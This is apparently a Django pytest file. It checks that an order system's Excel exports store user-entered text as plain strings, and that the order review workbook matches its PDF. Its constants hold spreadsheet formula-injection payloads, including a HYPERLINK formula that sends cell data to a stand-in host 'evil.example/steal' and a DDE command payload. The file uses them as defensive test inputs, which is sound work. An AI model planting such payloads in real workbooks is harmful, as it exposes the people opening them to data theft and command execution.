"""The orders' workbooks: user text stays text, and the order review sheet carries what its PDF carries."""

import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from orders import services

from .conftest import PO_DATE, line, pdf_upload, reload

pytestmark = pytest.mark.django_db

REMARKS = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click for the drawing")'
PO = '=HYPERLINK("http://evil.example","PO")'  # 35 characters: the PO field holds 40
DESCRIPTION = "=cmd|' /C calc'!A0"
QUESTION = "+1 or -1? @SUM(A1:A9)"


def _content(response) -> bytes:
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content) if response.streaming else response.content


def _cells(data: bytes) -> dict:
    ws = load_workbook(io.BytesIO(data)).active
    return {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}


def _no_formula(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return re.search(rb"<f[\s>/]", z.read("xl/worksheets/sheet1.xml")) is None


@pytest.mark.parametrize("engine", ["stream", "openpyxl"])
def test_formula_like_order_text_reaches_every_order_workbook_as_text(demo, make_order, client_for, settings, engine):
    settings.NHCS_XLSX_LIST_ENGINE = engine
    order = make_order(po_number=PO, remarks=REMARKS, req_special="clarify", lines=[line(description=DESCRIPTION)])
    services.clarification_raise(
        order=order, user=demo["sales"], topic="special", question=QUESTION, channel="email", sent_on=PO_DATE
    )
    client = client_for(demo["sales"])
    exports = {
        "order review sheet": (
            reverse("orders:order_review_sheet", kwargs={"pk": order.pk, "fmt": "xlsx"}),
            [REMARKS, PO, DESCRIPTION, QUESTION],
        ),
        "demand plan": (reverse("orders:demand_plan_export", args=["xlsx"]), [PO, DESCRIPTION]),
        "review detail": (reverse("orders:review_export", args=["xlsx"]), [PO]),
    }
    for name, (url, texts) in exports.items():
        data = _content(client.get(url))
        cells = _cells(data)
        for text in texts:
            assert text in cells, (name, text)
            assert cells[text].data_type == "s", (name, text, cells[text].data_type)
        assert _no_formula(data), name


def _reviewed_order_with_clarifications(demo, make_order, flow):
    """An order through review to the confirmed date, with a BOM (descriptions, lead-time notes) and two
    clarifications: one answered in writing, one still waiting."""
    order = make_order(req_special="clarify", req_materials="clarify", remarks="Pack by 50")
    answered = services.clarification_raise(
        order=order, user=demo["sales"], topic="special", question="Packing: 50 or 100?", channel="fax", sent_on=PO_DATE
    )
    waiting = services.clarification_raise(
        order=order, user=demo["sales"], topic="materials", question="PA66 GF30?", channel="email", sent_on=PO_DATE
    )
    services.clarification_answer(
        clarification=answered,
        user=demo["sales"],
        answer="50 per bag",
        answered_on=PO_DATE,
        confirmation=pdf_upload("fax-reply.pdf"),
    )
    order = flow.go(order, "submit", "sales")
    order = flow.go(order, "start_review", "planner")
    services.bom_save(
        order=order,
        user=demo["engineer"],
        rows=[
            {
                "part_number": "PCB-1",
                "description": "Printed board",
                "quantity_per_unit": Decimal("1"),
                "source": "buy",
            },
            {"part_number": "HSG-1", "description": "Housing", "quantity_per_unit": Decimal("1"), "source": "make"},
        ],
    )
    order = reload(order)
    bought = order.bom_lines.get(part_number="PCB-1")
    services.lead_times_save(order=order, user=demo["buyer"], lead_times={bought.pk: (21, "Supplier Shenzhen A")})
    order = flow.opinions(reload(order), {"qa": "conditions"})
    order = flow.go(order, "complete_review", "planner")
    return reload(order), answered, waiting


def test_order_review_workbook_carries_what_its_pdf_carries(demo, make_order, flow, client_for):
    order, answered, waiting = _reviewed_order_with_clarifications(demo, make_order, flow)
    answered.refresh_from_db()
    url = reverse("orders:order_review_sheet", kwargs={"pk": order.pk, "fmt": "xlsx"})
    ws = load_workbook(io.BytesIO(_content(client_for(demo["planner"]).get(url)))).active  # English request
    rows = [tuple(c.value for c in row) for row in ws.iter_rows()]
    first = [r[0] for r in rows]

    # The letterhead of the PDF, whatever the reader's language.
    assert first[:3] == [
        "生产计划及评审明细表",
        "Production plan and review detail sheet",
        "东莞市宁浩实业有限公司 Dongguan Ninghao Industrial Co., Ltd.",
    ]
    assert first[3].startswith(f"Document no. NH-QP14-02 · Version A · Record no. {order.number}")

    # 4.1.2: each clarification with the number of its written confirmation, or "missing".
    heading = first.index("Clarifications with the customer (4.1.2)")
    assert rows[heading + 1][:7] == (
        "Requirement",
        "Question",
        "Answer",
        "Sent",
        "Sent by",
        "Answered on",
        "Written confirmation",
    )
    clarification_rows = {r[1]: r for r in rows[heading + 2 : heading + 4]}
    done = clarification_rows["Packing: 50 or 100?"]
    assert done[2] == "50 per bag" and done[4] == "Fax"
    assert done[6] == f"#{answered.confirmation.seq} fax-reply.pdf"
    assert done[3].date() == PO_DATE and done[5].date() == PO_DATE
    assert clarification_rows["PA66 GF30?"][6] == "missing" and clarification_rows["PA66 GF30?"][2] is None

    # The BOM with descriptions and lead-time notes, "—" where no lead time applies, and the summary line.
    bom = first.index("Bill of materials and lead times")
    assert rows[bom + 1][:6] == (
        "Material / part",
        "Description",
        "Quantity per unit",
        "Make / buy / outsource",
        "Lead time (days)",
        "Note",
    )
    bom_rows = {r[0]: r for r in rows[bom + 2 : bom + 4]}
    assert bom_rows["PCB-1"][1] == "Printed board" and bom_rows["PCB-1"][4] == 21
    assert bom_rows["PCB-1"][5] == "Supplier Shenzhen A"
    assert bom_rows["HSG-1"][4] == "—"
    earliest = order.earliest_allowed_date().isoformat()
    assert f"Longest material lead time: 21 days; earliest delivery without a justification: {earliest}." in first

    # Review opinions with who and when; the signature boxes, the unsigned ones empty to sign by hand.
    opinions = first.index("Review opinions")
    qa = next(r for r in rows[opinions:] if r[1] and r[1].startswith("Accept with conditions"))
    assert str(demo["qa"]) in qa[1] and qa[2] == "reason" and qa[3] is not None
    signatures = first.index("Signature")
    boxes = {r[0]: r for r in rows[signatures + 1 :] if r[0]}
    assert boxes["Planning: review concluded"][1] == demo["planner"].signature_name
    assert boxes["Released to production"][1:4] == (None, None, None)

    # Printed like the PDF, with thin borders and wrapped text in the tables.
    assert ws.page_setup.orientation == "landscape"
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    cell = ws.cell(heading + 2, 2)
    assert cell.border.left.style == "thin" and cell.border.bottom.style == "thin" and cell.alignment.wrap_text


def test_order_review_pdf_and_workbook_agree_on_the_clarifications(demo, make_order, flow, client_for):
    """What the PDF prints of 4.1.2 is in the workbook too (the same confirmation number)."""
    from tests.sheets.conftest import pdf_text

    order, answered, _waiting = _reviewed_order_with_clarifications(demo, make_order, flow)
    answered.refresh_from_db()
    client = client_for(demo["planner"])
    pdf = pdf_text(_content(client.get(reverse("orders:order_review_sheet", kwargs={"pk": order.pk, "fmt": "pdf"}))))
    assert f"#{answered.confirmation.seq} fax-reply.pdf" in pdf and "Supplier Shenzhen A" in pdf
    data = _content(client.get(reverse("orders:order_review_sheet", kwargs={"pk": order.pk, "fmt": "xlsx"})))
    cells = _cells(data)
    assert f"#{answered.confirmation.seq} fax-reply.pdf" in cells and "Supplier Shenzhen A" in cells
